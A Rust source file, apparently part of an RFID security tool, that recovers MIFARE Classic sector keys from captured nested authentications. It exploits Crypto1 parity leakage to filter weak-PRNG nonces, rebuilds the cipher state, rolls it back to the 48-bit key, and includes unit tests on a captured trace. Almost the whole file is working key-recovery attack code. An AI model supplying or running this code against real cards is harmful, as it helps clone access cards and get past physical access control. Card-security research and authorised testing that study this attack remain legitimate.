/*! Brute-force completion of a nested authentication from parity
leakage.

A captured nested authentication gives the encrypted tag nonce,
reader response and tag response, plus — crucially — the parity bits
of each. Because Crypto1 encrypts a parity bit with the same
keystream bit as the following data bit, XORing each parity bit with
that data bit cancels the keystream and leaves a 10-bit digest that
depends only on the *plaintext* nonce. Walking all 2^16 weak-PRNG
nonces against the digest rejects 99.9% of them for free; the
survivors are completed with [`lfsr_recovery64`] and, optionally,
checked against one captured encrypted command that must decrypt to
a plausible MIFARE frame.

EV1 cards draw their nonces differently, which disables the first
two rungs of the digest ladder; EV1 results are therefore reported
as unverified candidates rather than authoritative keys.
 */
use std::sync::Mutex;
use std::sync::atomic::{AtomicU32, Ordering};

use log::{debug, info};

use crate::bits::{bit, oddparity8, parity_from_err};
use crate::crypto1::prng_successor;
use crate::iso14443::{CMDS, check_crc_a};
use crate::recovery::lfsr_recovery64;

/// A captured nested authentication to complete.
#[derive(Clone, Copy, Debug)]
pub struct NonceBruteJob {
    /// Card UID.
    pub uid: u32,
    /// Encrypted tag nonce.
    pub nt_enc: u32,
    /// Encrypted reader challenge.
    pub nr_enc: u32,
    /// Encrypted reader response.
    pub ar_enc: u32,
    /// Encrypted tag response.
    pub at_enc: u32,
    /// Per-byte parity error flags of the tag nonce, low nibble is
    /// byte 0.
    pub nt_par_err: u16,
    /// Parity error flags of the reader response.
    pub ar_par_err: u16,
    /// Parity error flags of the tag response.
    pub at_par_err: u16,
    /// One encrypted command captured after the authentication,
    /// used to verify candidates.
    pub cmd_enc: Option<u32>,
}

/// How much trust a finding deserves.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Confidence {
    /// Passed the full (non-EV1) parity ladder.
    Valid,
    /// EV1 scan: the relaxed ladder passed, but the nonce model is
    /// weaker, so treat as a candidate.
    Candidate,
}

/// One recovered key.
#[derive(Clone, Copy, Debug)]
pub struct Finding {
    /// The 48-bit sector key.
    pub key: u64,
    /// The plaintext tag nonce it implies.
    pub nt: u32,
    /// Decrypted follow-up command, when the job carried one.
    pub cmd_dec: Option<u32>,
    /// Valid or candidate.
    pub confidence: Confidence,
}

/// Fold the transmitted parity bits and the adjacent ciphertext bits
/// into the 10-bit keystream-free digest.
fn xored_bits(
    nt_par: u16,
    nt_enc: u32,
    ar_par: u16,
    ar_enc: u32,
    at_par: u16,
    at_enc: u32,
) -> u16 {
    let mut x: u16 = 0;
    x |= u16::from((nt_par >> 12) & 1 != (nt_enc >> 16 & 1) as u16);
    x <<= 1;
    x |= u16::from((nt_par >> 8) & 1 != (nt_enc >> 8 & 1) as u16);
    x <<= 1;
    x |= u16::from((nt_par >> 4) & 1 != (nt_enc & 1) as u16);
    x <<= 1;
    x |= u16::from((ar_par >> 12) & 1 != (ar_enc >> 16 & 1) as u16);
    x <<= 1;
    x |= u16::from((ar_par >> 8) & 1 != (ar_enc >> 8 & 1) as u16);
    x <<= 1;
    x |= u16::from((ar_par >> 4) & 1 != (ar_enc & 1) as u16);
    x <<= 1;
    x |= u16::from(ar_par & 1 != (at_enc >> 24 & 1) as u16);
    x <<= 1;
    x |= u16::from((at_par >> 12) & 1 != (at_enc >> 16 & 1) as u16);
    x <<= 1;
    x |= u16::from((at_par >> 8) & 1 != (at_enc >> 8 & 1) as u16);
    x <<= 1;
    x |= u16::from((at_par >> 4) & 1 != (at_enc & 1) as u16);
    x
}

/// Check a candidate plaintext nonce against the parity digest.
///
/// With `ev1` set the first two rungs are skipped, since EV1 nonces
/// do not satisfy them.
pub(crate) fn candidate_nonce(xored: u16, nt: u32, ev1: bool) -> bool {
    let x = u32::from(xored);
    if !ev1 {
        if oddparity8((nt >> 24) as u8) ^ bit(nt, 16) ^ bit(x, 9) != 0 {
            return false;
        }
        if oddparity8((nt >> 16) as u8) ^ bit(nt, 8) ^ bit(x, 8) != 0 {
            return false;
        }
    }
    if oddparity8((nt >> 8) as u8) ^ bit(nt, 0) ^ bit(x, 7) != 0 {
        return false;
    }

    let ar = prng_successor(nt, 64);
    if oddparity8((ar >> 24) as u8) ^ bit(ar, 16) ^ bit(x, 6) != 0 {
        return false;
    }
    if oddparity8((ar >> 16) as u8) ^ bit(ar, 8) ^ bit(x, 5) != 0 {
        return false;
    }
    if oddparity8((ar >> 8) as u8) ^ bit(ar, 0) ^ bit(x, 4) != 0 {
        return false;
    }

    let at = prng_successor(nt, 96);
    if oddparity8(ar as u8) ^ bit(at, 24) ^ bit(x, 3) != 0 {
        return false;
    }
    if oddparity8((at >> 24) as u8) ^ bit(at, 16) ^ bit(x, 2) != 0 {
        return false;
    }
    if oddparity8((at >> 16) as u8) ^ bit(at, 8) ^ bit(x, 1) != 0 {
        return false;
    }
    if oddparity8((at >> 8) as u8) ^ bit(at, 0) ^ bit(x, 0) != 0 {
        return false;
    }
    true
}

fn check_cmd(decrypted: u32) -> bool {
    let frame = decrypted.to_be_bytes();
    CMDS.contains(&frame[0]) && check_crc_a(&frame)
}

/// Scan one stripe of the nonce space.
fn scan(
    job: &NonceBruteJob,
    xored: u16,
    start: u32,
    stride: u32,
    ev1: bool,
    found: &AtomicU32,
    results: &Mutex<Vec<Finding>>,
) {
    let mut count = start;
    while count < 0xffff {
        if found.load(Ordering::Acquire) != 0 {
            break;
        }
        let nt = count << 16 | prng_successor(count, 16);
        count += stride;

        if !candidate_nonce(xored, nt, ev1) {
            continue;
        }

        let p64 = prng_successor(nt, 64);
        let ks2 = job.ar_enc ^ p64;
        let ks3 = job.at_enc ^ prng_successor(p64, 32);
        let Some(state) = lfsr_recovery64(ks2, ks3).into_iter().next() else {
            continue;
        };

        let mut probe = state;
        let ks4 = probe.word(0, false);
        if ks4 == 0 {
            continue;
        }

        let cmd_dec = job.cmd_enc.map(|c| ks4 ^ c);
        if let Some(dec) = cmd_dec {
            if !check_cmd(dec) {
                debug!("nt {nt:08x}: decrypted cmd {dec:08x} is not a valid frame");
                continue;
            }
        }

        let mut s = probe;
        s.rollback_word(0, false);
        s.rollback_word(0, false);
        s.rollback_word(0, false);
        s.rollback_word(job.nr_enc, true);
        s.rollback_word(job.uid ^ nt, false);
        let key = s.lfsr();

        // The result list mutex doubles as the print lock: holders
        // log and push without interleaving.
        let mut res = results.lock().expect("result lock");
        if ev1 {
            info!("possible key candidate [{key:012X}] (nt {nt:08x})");
            res.push(Finding {
                key,
                nt,
                cmd_dec,
                confidence: Confidence::Candidate,
            });
            // EV1 candidates are not authoritative; keep scanning.
        } else {
            info!("valid key found [{key:012X}] (nt {nt:08x})");
            res.push(Finding {
                key,
                nt,
                cmd_dec,
                confidence: Confidence::Valid,
            });
            found.fetch_add(1, Ordering::AcqRel);
        }
    }
}

/// Run the brute force across `threads` OS threads.
///
/// With `include_ev1` the thread layout follows the capture tools:
/// thread 0 walks its share of the space with the strict ladder and
/// the remaining threads stripe the whole space with the relaxed
/// EV1 ladder. Without it, all threads stripe the strict scan.
///
/// A strict-ladder find stops the search; EV1 candidates accumulate
/// until the space is exhausted.
pub fn run(job: &NonceBruteJob, threads: usize, include_ev1: bool) -> Vec<Finding> {
    let threads = threads.max(2);
    let nt_par = parity_from_err(job.nt_enc, job.nt_par_err);
    let ar_par = parity_from_err(job.ar_enc, job.ar_par_err);
    let at_par = parity_from_err(job.at_enc, job.at_par_err);
    let xored = xored_bits(nt_par, job.nt_enc, ar_par, job.ar_enc, at_par, job.at_enc);
    debug!("parity digest {xored:04x}");

    let found = AtomicU32::new(0);
    let results = Mutex::new(Vec::new());

    std::thread::scope(|s| {
        if include_ev1 {
            let stride = (threads - 1) as u32;
            let (found_ref, results_ref) = (&found, &results);
            s.spawn(move || scan(job, xored, 0, stride, false, found_ref, results_ref));
            for i in 0..threads - 1 {
                let (found, results) = (&found, &results);
                s.spawn(move || scan(job, xored, i as u32, stride, true, found, results));
            }
        } else {
            for i in 0..threads {
                let (found, results) = (&found, &results);
                s.spawn(move || {
                    scan(job, xored, i as u32, threads as u32, false, found, results)
                });
            }
        }
    });

    results.into_inner().expect("result lock")
}

#[cfg(test)]
mod tests {
    use super::*;

    fn captured_auth() -> NonceBruteJob {
        NonceBruteJob {
            uid: 0xfa247164,
            nt_enc: 0xfb47c594,
            nr_enc: 0x71909d28,
            ar_enc: 0x0c254817,
            at_enc: 0x0dc7cfbd,
            nt_par_err: 0x0000,
            ar_par_err: 0x1000,
            at_par_err: 0x1110,
            cmd_enc: None,
        }
    }

    #[test]
    fn digest_matches_trace() {
        let job = captured_auth();
        let nt_par = parity_from_err(job.nt_enc, job.nt_par_err);
        let ar_par = parity_from_err(job.ar_enc, job.ar_par_err);
        let at_par = parity_from_err(job.at_enc, job.at_par_err);
        assert_eq!((nt_par, ar_par, at_par), (0x0110, 0x0011, 0x1101));
        let xored = xored_bits(nt_par, job.nt_enc, ar_par, job.ar_enc, at_par, job.at_enc);
        assert_eq!(xored, 0x02c1);
        // The true plaintext nonce passes the strict ladder...
        assert!(candidate_nonce(xored, 0xfb47c594, false));
        // ...and anything failing strict still passes relaxed if
        // only the high rungs differ.
        assert!(candidate_nonce(xored, 0xfb47c594, true));
    }

    #[test]
    fn digest_rejects_almost_everything() {
        let job = captured_auth();
        let nt_par = parity_from_err(job.nt_enc, job.nt_par_err);
        let ar_par = parity_from_err(job.ar_enc, job.ar_par_err);
        let at_par = parity_from_err(job.at_enc, job.at_par_err);
        let xored = xored_bits(nt_par, job.nt_enc, ar_par, job.ar_enc, at_par, job.at_enc);
        let survivors = (0u32..0x10000)
            .filter(|&t| candidate_nonce(xored, t << 16 | prng_successor(t, 16), false))
            .count();
        assert_eq!(survivors, 64);
    }

    #[test]
    fn recovers_all_ff_key() {
        let findings = run(&captured_auth(), 4, false);
        assert!(
            findings
                .iter()
                .any(|f| f.key == 0xffffffffffff && f.confidence == Confidence::Valid),
            "expected FFFFFFFFFFFF among {findings:?}"
        );
    }
}
